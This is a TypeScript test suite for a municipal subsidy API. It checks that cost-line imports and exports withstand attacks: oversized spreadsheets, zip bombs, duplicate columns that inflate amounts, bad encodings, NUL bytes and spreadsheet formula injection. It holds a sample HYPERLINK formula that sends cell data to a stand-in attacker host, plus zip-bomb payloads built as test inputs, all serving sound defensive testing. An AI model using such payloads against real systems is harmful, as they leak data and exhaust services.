import { SubsidiesTestApp } from './subsidies-test-app';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { eventually } from '@wiz/platform/testing';
import { blad, rij, werkboekDelen, xlsx, zip } from './xlsx-bestand';

/** Small limits, so the attacks' files stay quick to build and read. */
const MAX_UITGEPAKT = 64 * 1024 * 1024;
const env = {
  IMPORT_DIRECT_MAX: '1000',
  IMPORT_MAX_RIJEN: '6000',
  IMPORT_MAX_UITGEPAKT_BYTES: String(MAX_UITGEPAKT),
  DECLARATIE_DIRECT_MAX: '20',
};
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const KOP = ['regelingCode', 'soort', 'bedragCenten', 'datum', 'omschrijving', 'bewijsstuk'];

describe('subsidies: cost-line imports and exports under attack', () => {
  const t = new SubsidiesTestApp(env);
  beforeAll(() => t.start());
  afterAll(() => t.stop());

  const fin = () => t.as('financien', 'GM0014', 'controller-1');
  const regeling = async (code: string) =>
    (await fin())
      .post('/api/v1/regelingen', {
        code,
        naam: code,
        startdatum: '2026-01-01',
        einddatum: '2026-12-31',
        gemeentecodes: ['GM0014'],
        cofinancieringspercentage: 60,
      })
      .expect(201);
  const aantal = async (code: string) =>
    (await t.query('SELECT count(*)::int AS n FROM kostenregels WHERE regeling_code = $1', [code]))[0].n as number;
  const importeer = async (type: string, body: Buffer | string) =>
    (await fin()).post('/api/v1/kostenregels/import').set('Content-Type', type).send(body);
  /** Polls an import job until it is done; returns every status seen on the way and the last answer. */
  const volg = async (id: string) => {
    const gezien = new Set<string>();
    const klaar = await eventually(async () => {
      const body = (await (await fin()).get(`/api/v1/kostenregels/importen/${id}`).expect(200)).body;
      gezien.add(body.status);
      expect(body.status).not.toBe('in-bewerking');
      return body;
    }, 60_000);
    return { gezien, klaar };
  };

  it('answers the 300,000-row XLSX at once with 202 and a job, which refuses it past the row cap and stores nothing', async () => {
    await regeling('AANVAL');
    // The penetration test's file: 300,000 rows in an XLSX of a few MB (shared strings, numbers).
    const gedeeld = ['AANVAL', 'materiaal', '2026-04-01', 'laptop', 'f-1'];
    function* rijen() {
      yield rij(1, KOP);
      for (let n = 2; n <= 300_001; n++) yield rij(n, [{ s: 0 }, { s: 1 }, 100, { s: 2 }, { s: 3 }, { s: 4 }]);
    }
    const bestand = zip([...werkboekDelen(gedeeld), { naam: 'xl/worksheets/sheet1.xml', inhoud: blad(rijen()) }]);
    expect(bestand.length).toBeLessThan(8 * 1024 * 1024);
    const res = await importeer(XLSX, bestand);
    expect(res.status).toBe(202);
    expect(res.body).toEqual({ id: expect.any(String), status: 'in-bewerking', voortgang: 0 });
    expect(res.headers.location).toBe(`/api/v1/kostenregels/importen/${res.body.id}`);
    const { klaar } = await volg(res.body.id);
    expect(klaar).toMatchObject({
      status: 'geweigerd',
      voortgang: 100,
      detail: expect.stringMatching(/more than 6000 rows/),
    });
    expect(await aantal('AANVAL')).toBe(0);
  });

  it('stores a large import as a job all or nothing: verwerkt with its count, or geweigerd naming every bad row', async () => {
    await regeling('GROOT');
    const regels = (n: number, fout?: number) =>
      [
        KOP.join(';'),
        ...Array.from(
          { length: n },
          (_, i) => `GROOT;materiaal;${i === fout ? '12,5' : 100 + i};2026-04-01;item ${i};bon-${i}`,
        ),
      ].join('\r\n');
    const slecht = await importeer('text/csv', regels(5_000, 3_999));
    expect(slecht.status).toBe(202);
    const geweigerd = await volg(slecht.body.id);
    expect(geweigerd.klaar).toMatchObject({
      status: 'geweigerd',
      errors: [{ field: 'rij 4001.bedragCenten', message: expect.stringMatching(/decimal comma/) }],
    });
    expect(await aantal('GROOT')).toBe(0);

    const goed = await importeer('text/csv', regels(5_000));
    expect(goed.status).toBe(202);
    const verwerkt = await volg(goed.body.id);
    expect(verwerkt.klaar).toEqual({ id: goed.body.id, status: 'verwerkt', voortgang: 100, aantal: 5_000 });
    expect(await aantal('GROOT')).toBe(5_000);
    // The job's audit row is the uploader's, for this import (its lines name no participant).
    expect(
      await t.query(`SELECT subject, inwoner_ids::text[] AS ids FROM audit_log WHERE wat_id = $1`, [goed.body.id]),
    ).toEqual([{ subject: 'controller-1', ids: [] }]);
    // The upload is not kept once handled, and another organisation's finance does not see the import.
    expect(
      (await t.query('SELECT bestand FROM kostenregel_importen WHERE id = $1', [goed.body.id]))[0].bestand,
    ).toBeNull();
    await (await t.as('financien', 'GM0034')).get(`/api/v1/kostenregels/importen/${goed.body.id}`).expect(404);
  });

  it('refuses a zip bomb with 413, whether it declares its size or lies about it', async () => {
    await regeling('BOM');
    const nullen = Buffer.alloc(MAX_UITGEPAKT + 1, 0x20);
    const eerlijk = await importeer(
      XLSX,
      zip([...werkboekDelen([]), { naam: 'xl/worksheets/sheet1.xml', inhoud: nullen }]),
    );
    expect(eerlijk.status).toBe(413);
    expect(eerlijk.body.detail).toMatch(/unpacks to more than/);
    const liegend = await importeer(
      XLSX,
      zip([
        ...werkboekDelen([]),
        { naam: 'xl/worksheets/sheet1.xml', inhoud: Buffer.alloc(8 * 1024 * 1024, 0x20), verklaard: 1_000 },
      ]),
    );
    expect(liegend.status).toBe(413);
    expect(liegend.body.detail).toMatch(/more than it declares/);
    const gedeeld = await importeer(
      XLSX,
      zip([
        ...werkboekDelen([]).filter((d) => d.naam !== 'xl/sharedStrings.xml'),
        { naam: 'xl/sharedStrings.xml', inhoud: Buffer.alloc(33 * 1024 * 1024, 0x20) },
        { naam: 'xl/worksheets/sheet1.xml', inhoud: blad([]) },
      ]),
    );
    expect(gedeeld.status).toBe(413);
    expect(await aantal('BOM')).toBe(0);
  });

  it('reads the separators and encodings spreadsheets write, and refuses an encoding it cannot tell', async () => {
    await regeling('TEKST');
    const regels = (scheiding: string) =>
      [KOP.join(scheiding), ['TEKST', 'materiaal', '100', '2026-04-01', 'Café Ĳssel “ok”', 'f-1'].join(scheiding)].join(
        '\r\n',
      );
    const utf16be = (s: string) => Buffer.from(s, 'utf16le').swap16();
    const bestanden: [string, Buffer][] = [
      [
        'UTF-8 with ; (Dutch Excel, "CSV UTF-8")',
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(regels(';'))]),
      ],
      ['UTF-8 without BOM, ,', Buffer.from(regels(','))],
      ['UTF-16 LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(regels(';'), 'utf16le')])],
      ['UTF-16 BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(regels(';'))])],
    ];
    for (const [wat, bestand] of bestanden) {
      const res = await importeer('text/csv', bestand);
      expect([wat, res.status]).toEqual([wat, 201]);
    }
    // Windows-1252 (Excel's "CSV (;)" on a Dutch PC) has é but neither Ĳ nor the quotes above as one byte each.
    const w1252 = Buffer.concat([
      Buffer.from(`${KOP.join(';')}\r\nTEKST;materiaal;100;2026-04-01;Caf`),
      Buffer.from([0xe9, 0x20, 0x80]),
      Buffer.from(';f-2'),
    ]); // é, space, €
    await importeer('text/csv', w1252).then((r) => expect(r.status).toBe(201));
    const opgeslagen = (
      await t.query(`SELECT omschrijving FROM kostenregels WHERE regeling_code = 'TEKST' ORDER BY omschrijving`)
    ).map((r: { omschrijving: string }) => r.omschrijving);
    expect(opgeslagen).toEqual(['Café Ĳssel “ok”', 'Café Ĳssel “ok”', 'Café Ĳssel “ok”', 'Café Ĳssel “ok”', 'Café €']);

    const onbekend = Buffer.from([
      ...Buffer.from(`${KOP.join(';')}\r\nTEKST;materiaal;100;2026-04-01;`),
      0x81,
      0x8d,
      ...Buffer.from(';f-3'),
    ]);
    const geweigerd = await importeer('text/csv', onbekend);
    expect(geweigerd.status).toBe(415);
    expect(geweigerd.body.detail).toMatch(/neither UTF-8 nor Windows-1252/);
    const zonderBom = await importeer('text/csv', Buffer.from(regels(';'), 'utf16le'));
    expect(zonderBom.status).toBe(415);
    expect(zonderBom.body.detail).toMatch(/UTF-16 without a byte order mark/);
    expect(await aantal('TEKST')).toBe(5);
  });

  it('refuses a duplicate column (CSV and XLSX) naming it, and a NUL byte with 400 naming the cell', async () => {
    await regeling('DUBBEL');
    // The attack: a second bedragCenten column used to win, storing 999999 instead of 100.
    const csv = [
      'regelingCode,soort,bedragCenten,datum,omschrijving,bedragCenten',
      'DUBBEL,materiaal,100,2026-04-01,laptop,999999',
    ].join('\n');
    const res = await importeer('text/csv', csv);
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual([
      { field: 'rij 1.bedragCenten', message: expect.stringMatching(/more than once/) },
    ]);
    const blad = await importeer(
      XLSX,
      xlsx([
        [...KOP, 'bedragCenten'],
        ['DUBBEL', 'materiaal', 100, '2026-04-01', 'laptop', 'f-1', 999_999],
      ]),
    );
    expect(blad.status).toBe(400);
    expect(blad.body.errors).toEqual([
      { field: 'rij 1.bedragCenten', message: expect.stringMatching(/more than once/) },
    ]);

    const nul = await importeer(
      'text/csv',
      Buffer.from(`${KOP.join(',')}\nDUBBEL,materiaal,100,2026-04-01,lap\u0000top,f-1\n`),
    );
    expect(nul.status).toBe(400);
    expect(nul.body.errors).toEqual([{ field: 'rij 2.omschrijving', message: expect.stringMatching(/NUL/) }]);
    expect(await aantal('DUBBEL')).toBe(0);

    // A small XLSX is still stored within the request.
    expect(
      (await importeer(XLSX, xlsx([KOP, ['DUBBEL', 'materiaal', 100, '2026-04-01', 'laptop', 'f-1']]))).body,
    ).toEqual({ aantal: 1 });
  });

  it('refuses a CSV that breaks its quoting with 400, whatever code csv-parse gives the error', async () => {
    // The fuzz found it: INVALID_OPENING_QUOTE carries no CSV_ prefix and fell through to a 500.
    for (const kapot of [`${KOP.join(',')}\n-"`, `${KOP.join(',')}\n"niet gesloten,materiaal`]) {
      const res = await importeer('text/csv', kapot);
      expect(res.status).toBe(400);
      expect(res.body.detail).toMatch(/The CSV file cannot be read/);
    }
  });

  it('exports text that starts a formula as text: quoted with a leading quote in CSV, a string cell in XLSX', async () => {
    const f = await fin();
    await regeling('FORMULE');
    const aanval = ['=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik")', '+31 6 1234', '-2+3', '@SUM(A1:A9)'];
    for (const [i, omschrijving] of aanval.entries()) {
      await f
        .post('/api/v1/kostenregels', {
          regelingCode: 'FORMULE',
          soort: 'materiaal',
          bedragCenten: 100 + i,
          datum: '2026-04-01',
          omschrijving,
          bewijsstuk: `=bon-${i}`,
        })
        .expect(201);
    }
    const claim = (
      await f
        .post('/api/v1/declaraties', { regelingCode: 'FORMULE', periodeVan: '2026-01-01', periodeTot: '2026-12-31' })
        .expect(201)
    ).body;
    const csv = (await f.get(`/api/v1/declaraties/${claim.id}/export?formaat=csv`).expect(200)).text;
    expect(csv).toContain(`"'=HYPERLINK(""https://aanvaller.example/?d=""&A1,""Klik"")"`);
    const rijen = parse<{ omschrijving: string; bewijsstuk: string }>(csv, { columns: true });
    expect(rijen.map((r) => r.omschrijving).sort()).toEqual(aanval.map((a) => `'${a}`).sort());
    expect(rijen.every((r) => r.bewijsstuk.startsWith("'="))).toBe(true);

    const xlsxRes = await f
      .get(`/api/v1/declaraties/${claim.id}/export?formaat=xlsx`)
      .buffer(true)
      .parse((res, cb) => {
        const c: Buffer[] = [];
        res.on('data', (d: Buffer) => c.push(d));
        res.on('end', () => cb(null, Buffer.concat(c)));
      })
      .expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsxRes.body);
    const cellen: ExcelJS.Cell[] = [];
    wb.getWorksheet('Kostenregels')!.eachRow((row, n) => {
      if (n > 1) cellen.push(row.getCell(7));
    });
    expect(cellen.map((c) => [c.type, c.value]).sort()).toEqual(
      aanval.map((a) => [ExcelJS.ValueType.String, a]).sort(),
    );
  });
});
